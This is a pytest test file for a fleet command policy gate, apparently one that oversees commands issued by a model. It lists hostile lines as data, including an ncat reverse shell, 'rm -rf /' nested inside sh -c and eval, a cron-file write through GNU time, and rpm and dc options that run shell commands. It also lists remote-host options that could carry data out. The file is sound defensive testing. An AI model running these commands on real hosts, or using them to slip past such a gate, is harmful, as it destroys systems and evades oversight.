# ruff: noqa: S604  (shell=True marks a command line to classify; nothing is executed here)
"""Review of the policy gate: commands that ran code, wrote files or changed the system while
classified observe or diagnose, and the risk they were given."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

from legator.fleet.policy import (
    DIAGNOSE,
    OBSERVE,
    REMEDIATE,
    Policy,
    classify,
    evaluate,
    rank,
    reaches_network,
)
from legator.fleet.policy.shell import command_parts
from legator.fleet.risk import CRITICAL, HIGH, classify_risk, tier_rank

# The option value of a wrapper was read as the program it runs, and ``time`` writes files.
WRAPPER_BYPASSES = [
    "time -o ls rm -rf /tmp/x",  # runs rm, writes ./ls
    "time -f ls rm -rf /tmp/x",
    "time --form ls rm -rf /tmp/x",  # getopt_long abbreviation of --format
    "time --out ls rm -rf /tmp/x",
    "time --output=/etc/cron.d/x --format='* * * * * root id' true",
    "time -a -o /etc/x true",
]

# Programs listed as observe or diagnose that also write, run or change the system.
PROGRAM_BYPASSES = [
    "dc -e '!touch /tmp/pwned'",  # GNU dc: ! runs a shell command
    "dc /tmp/script.dc",
    "lastlog -C -u root",  # clears a login record
    "lastlog --clear --user root",
    "lastlog -S -u root",
    "dmidecode --dump-bin /etc/x",
    "dmidecode --dump-b /etc/x",
    "file -C -m /etc/x",
    "dmesg -C",
    "dmesg -c",
    "dmesg -Hc",
    "dmesg --clear",
    "dmesg -n 1",
    "dmesg -D",
    "ss -K dst 10.0.0.1",
    "ss --kill dst 10.0.0.1",
    "ss -D /etc/x",
    "route del default",
    "route add default gw 10.0.0.1",
    "route -n del default",
    "arp -d 10.0.0.1",
    "arp -s 10.0.0.1 00:11:22:33:44:55",
    "arp --delete 10.0.0.1",
    "ethtool -f eth0 firmware.bin",
    "ethtool -s eth0 speed 10",
    "ethtool -E eth0 magic 1 offset 0 value 0",
    "ethtool -K eth0 tso off",
    "smartctl -s off /dev/sda",
    "smartctl -t long /dev/sda",
    "smartctl --smart=off /dev/sda",
    "smartctl -X /dev/sda",
    "nvidia-smi -r",
    "nvidia-smi -pl 100",
    "nvidia-smi -pm 1",
    "nvidia-smi -q -f /etc/x",
    "sar -o /etc/x 1 1",
    "pidstat -e rm -rf /tmp/x",
    "sensors -s",
    "tcpdump -w /etc/x",
    "tcpdump -i lo -w /tmp/x -G 1 -z /tmp/script",
    "nmap --script=/tmp/x.nse localhost",
    "nmap -sC localhost",
    "nmap -oN /etc/x localhost",
    "nmap -script=/tmp/x.nse localhost",
    "ncat -e /bin/sh 10.0.0.1 9",
    "ncat --sh-exec id -l 9",
    "ncat -l 9 -o /etc/x",
    "openssl enc -in /tmp/a -out /etc/x",
    "openssl enc -in /tmp/a --out=/etc/x",
    "openssl req -engine /tmp/x.so",
    "openssl s_client -connect h:443 -keylogfile /etc/x",
    "openssl x509 -req -in a -CA c -CAkey k -CAcreateserial",
    "openssl ca -batch",
]


@pytest.mark.parametrize("line", WRAPPER_BYPASSES + PROGRAM_BYPASSES)
def test_bypasses_are_remediate(line: str) -> None:
    assert classify(line, shell=True) == REMEDIATE, line
    argv = shlex.split(line)
    assert classify(argv[0], argv[1:]) == REMEDIATE, line


# What the programs above do that only reads must keep its level.
STAY = [
    ("time ls -l", OBSERVE),
    ("time -p ls", OBSERVE),
    ("time --verbose ls", OBSERVE),
    ("time -f %e ls", OBSERVE),
    ("timeout 5 ls", OBSERVE),
    ("timeout -s KILL 5 ls", OBSERVE),
    ("timeout -k 2 5 ls", OBSERVE),
    ("nice -n 5 ls", DIAGNOSE),
    ("stdbuf -oL ls", OBSERVE),
    ("command -v ls", OBSERVE),
    ("lastlog -u root", OBSERVE),
    ("dmidecode -t memory", OBSERVE),
    ("file /etc/hostname", OBSERVE),
    ("dmesg -T", DIAGNOSE),
    ("dmesg --level err,warn", DIAGNOSE),
    ("ss -tlnp", DIAGNOSE),
    ("ss -f inet -a", DIAGNOSE),
    ("route -n", DIAGNOSE),
    ("route -A inet6 -n", DIAGNOSE),
    ("arp -an", DIAGNOSE),
    ("arp -i eth0 -n", DIAGNOSE),
    ("ethtool eth0", DIAGNOSE),
    ("ethtool -i eth0", DIAGNOSE),
    ("ethtool -S eth0", DIAGNOSE),
    ("ethtool --json -k eth0", DIAGNOSE),
    ("smartctl -a /dev/sda", DIAGNOSE),
    ("smartctl -H -d sat /dev/sda", DIAGNOSE),
    ("nvidia-smi", DIAGNOSE),
    ("nvidia-smi -q -i 0", DIAGNOSE),
    ("nvidia-smi -L", DIAGNOSE),
    ("nvidia-smi --query-gpu=name,memory.used --format=csv,noheader", DIAGNOSE),
    ("sar -u 1 3", DIAGNOSE),
    ("pidstat -u 1 1", DIAGNOSE),
    ("sensors", DIAGNOSE),
    ("tcpdump -nn -i eth0 -c 10 port 53", DIAGNOSE),
    ("nmap -sV -p 22 localhost", DIAGNOSE),
    ("nmap --open localhost", DIAGNOSE),
    ("ncat -zv localhost 22", DIAGNOSE),
    ("openssl version", DIAGNOSE),
    ("openssl s_client -connect h:443 -servername h", DIAGNOSE),
    ("openssl x509 -in /etc/ssl/c.pem -noout -dates", DIAGNOSE),
]


@pytest.mark.parametrize(("line", "level"), STAY)
def test_read_only_uses_keep_their_level(line: str, level: str) -> None:
    assert classify(line, shell=True) == level, line


def test_risk_looks_past_a_wrapper_option_value() -> None:
    """``time -o ls rm -rf /`` removes everything: critical like ``rm -rf /``, not high."""
    assert classify_risk("rm -rf /", shell=True) == CRITICAL
    for line in ("time -o ls rm -rf /", "time -f ls rm -rf /", "time --form ls rm -rf /"):
        assert tier_rank(classify_risk(line, shell=True)) >= tier_rank(CRITICAL), line
        argv = shlex.split(line)
        assert tier_rank(classify_risk(argv[0], argv[1:])) >= tier_rank(CRITICAL), line


@pytest.mark.skipif(not os.path.exists("/usr/bin/time"), reason="GNU time is not installed")
def test_time_option_value_really_runs_the_next_word(tmp_path: Path) -> None:
    """What the classifier must see: GNU time takes ``ls`` as its output file and runs
    ``touch``; before the fix this was classified observe."""
    argv = ["/usr/bin/time", "-o", "ls", "touch", "pwned"]
    subprocess.run(argv, cwd=tmp_path, check=True, capture_output=True)
    assert (tmp_path / "pwned").exists() and (tmp_path / "ls").exists()
    assert rank(classify(argv[0], argv[1:])) == rank(REMEDIATE)


@pytest.mark.skipif(shutil.which("dc") is None, reason="dc is not installed")
def test_dc_really_runs_a_shell_command(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    subprocess.run(["dc", "-e", f"!touch {marker}"], check=False, capture_output=True)
    assert marker.exists()
    assert classify("dc", ["-e", f"!touch {marker}"]) == REMEDIATE


# rpm's --pipe runs a shell command; --eval/--define expand macros (``%(cmd)`` runs cmd);
# --macros, --rcfile and --load read macro files; --dbpath and --root read another database.
RPM_BYPASSES = [
    "rpm -qa --pipe 'touch /tmp/pwned'",
    "rpm -q --pipe=id bash",
    "rpm -q --eval '%(id)'",
    "rpm -q bash -E '%(id)'",
    "rpm -q --define 'x %(id)' bash",
    "rpm -q -D 'x %(id)' bash",
    "rpm -q --macros /tmp/m bash",
    "rpm -q --rcfile /tmp/rc bash",
    "rpm -q --load /tmp/m bash",
    "rpm -q --dbpath /tmp/db bash",
    "rpm -q --root /tmp/r bash",
]


@pytest.mark.parametrize("line", RPM_BYPASSES)
def test_rpm_options_that_run_code_are_remediate(line: str) -> None:
    assert classify(line, shell=True) == REMEDIATE, line


@pytest.mark.parametrize("line", ["rpm -qa", "rpm -qi bash", "rpm -qf /bin/ls", "rpm -V bash"])
def test_rpm_queries_stay_diagnose(line: str) -> None:
    assert classify(line, shell=True) == DIAGNOSE, line


# Programs that reach another host only with an option: a model can carry data in the name.
REMOTE = [
    "systemctl -H data.example.org status",
    "systemctl --host=data.example.org status",
    "systemctl -qH data.example.org status",
    "hostnamectl -H root@data.example.org",
    "timedatectl --host data.example.org",
    "loginctl -H data.example.org list-sessions",
    "docker -H tcp://203.0.113.9:2375 ps",
    "docker --host=ssh://data.example.org ps",
    "podman --url ssh://data.example.org ps",
    "rpm -qp http://data.example.org/x.rpm",
]


@pytest.mark.parametrize("line", REMOTE)
def test_remote_options_reach_the_network(line: str) -> None:
    assert reaches_network(line, shell=True), line
    argv = shlex.split(line)
    assert reaches_network(argv[0], argv[1:]), line
    assert rank(classify(line, shell=True)) < rank(REMEDIATE)  # so nothing else queues it


@pytest.mark.parametrize(
    "line", ["systemctl status nginx", "docker ps", "podman ps", "rpm -qa", "hostnamectl"]
)
def test_local_uses_stay_local(line: str) -> None:
    assert not reaches_network(line, shell=True), line


# A shell line inside ``sh -c``, ``eval``, ``su -c`` or ``watch`` is as risky as the same line
# given directly: quoting was lost on the way and ``ls; rm -rf /`` came out high.
NESTED_CRITICAL = [
    "sh -c 'ls; rm -rf /'",
    "sh -c 'ls && shutdown now'",
    "bash -c 'echo x; mkfs.ext4 /dev/sda'",
    "sudo sh -c 'ls; rm -rf /'",
    "env sh -c 'ls; rm -rf /'",
    "eval 'ls; rm -rf /'",
    "su -c 'ls; reboot'",
    "watch -n1 'ls; rm -rf /'",
]


@pytest.mark.parametrize("line", NESTED_CRITICAL)
def test_nested_shell_lines_keep_their_risk(line: str) -> None:
    assert classify_risk(line, shell=True) == CRITICAL, line
    argv = shlex.split(line)
    assert classify_risk(argv[0], argv[1:]) == CRITICAL, line


def test_policy_tightened_to_two_person_holds_back_a_single_approval(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Queued under mutation_gate, the policy then made two_person: the requester's own single
    approval must not dispatch a critical command (checked again at dispatch, like the level).
    """
    import secrets

    from legator.fleet.commands import service as commands_service
    from legator.fleet.models import Probe
    from tests.support import live_server

    monkeypatch.setattr(commands_service, "RECONNECT_WAIT_S", 0.2)
    with live_server(tmp_path / "data") as server, server.client(server.admin_key) as admin:
        body = {"name": "tightened", "level": "remediate", "paths": ["/"]}
        created = admin.post("/api/v1/policies", json=body)
        assert created.status_code == 201, created.text
        policy_id = created.json()["id"]

        async def add_probe() -> None:
            row = Probe(
                id="prb-review",
                hostname="review.example",
                policy_id=policy_id,
                key_hash=secrets.token_hex(32),
            )
            async with server.core.db.write() as session:  # type: ignore[union-attr]
                session.add(row)

        server.call(add_probe())
        queued = admin.post(
            "/api/v1/probes/prb-review/command", json={"command": "rm", "args": ["-rf", "/srv"]}
        )
        assert queued.status_code == 202, queued.text
        approval_id = queued.json()["approval_id"]
        tightened = admin.put(
            f"/api/v1/policies/{policy_id}", json={**body, "approval_mode": "two_person"}
        )
        assert tightened.status_code == 200, tightened.text

        decided = admin.post(
            f"/api/v1/approvals/{approval_id}/decide", json={"decision": "approve"}
        )
        assert decided.status_code == 200, decided.text
        result = decided.json()["result"]
        assert result["request_ids"] == {}
        assert "two approvers" in result["errors"]["prb-review"], result


# A known name is only that program where the system keeps its programs: a local user can
# drop /tmp/ls, and the probe (root) would run it as an observe command.
ELSEWHERE = ["/tmp/ls", "./cat /etc/hostname", "/dev/shm/uptime", "/usr/bin/../../tmp/ls",
             "bin/ls", "/home/u/bin/grep x f", "timeout 5 /tmp/ls"]  # fmt: skip


@pytest.mark.parametrize("line", ELSEWHERE)
def test_known_names_outside_system_directories_are_remediate(line: str) -> None:
    assert classify(line, shell=True) == REMEDIATE, line
    argv = shlex.split(line)
    assert classify(argv[0], argv[1:]) == REMEDIATE, line


@pytest.mark.parametrize(
    "line", ["/bin/ls -l", "/usr/bin/cat /etc/hostname", "/usr/sbin/ss -tlnp", "/usr/bin//df"]
)
def test_system_paths_keep_their_level(line: str) -> None:
    assert classify(line, shell=True) in (OBSERVE, DIAGNOSE), line


@pytest.mark.parametrize("opening", ["$(", "<(", "$( ( "])
def test_substitutions_nested_without_end_are_remediate_not_a_crash(opening: str) -> None:
    """Each nested substitution is classified by a call of its own: 3,000 of them were a
    RecursionError, so the command request was a 500 instead of a refusal."""
    line = opening * 3000 + "ls" + ")" * (3000 * opening.count("("))
    assert classify(line, shell=True) == REMEDIATE
    assert classify_risk(line, shell=True) in (HIGH, CRITICAL)
    assert reaches_network(line, shell=True) is True  # what cannot be read may reach anything
    assert command_parts(line, shell=True)
    assert evaluate(Policy(level="remediate"), line, shell=True).allowed
    assert classify("echo " + "$(echo " * 30 + "ls" + ")" * 30, shell=True) == OBSERVE
